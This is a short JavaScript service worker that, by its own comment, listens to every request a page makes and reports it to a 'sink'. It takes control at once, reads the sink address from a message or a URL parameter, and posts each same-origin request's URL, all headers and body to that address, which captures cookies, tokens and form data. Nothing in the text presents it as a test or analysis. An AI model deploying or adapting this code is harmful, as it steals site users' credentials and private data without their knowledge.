// A service worker that hears every request of the page and tells the sink.
addEventListener('install', () => skipWaiting());
addEventListener('activate', (event) => event.waitUntil(clients.claim()));
addEventListener('message', ({ data }) => { self.sink = data; });
addEventListener('fetch', (event) => {
  const { request } = event;
  if (!request.url.startsWith(location.origin)) return;
  const copy = request.clone();
  event.waitUntil((async () => {
    const body = await copy.text().catch(() => '');
    const sink = self.sink ?? new URL(location.href).searchParams.get('sink');
    await fetch(`${sink}/service-worker`, { method: 'POST', body: JSON.stringify([request.url, [...request.headers], body]) }).catch(() => {});
  })());
});
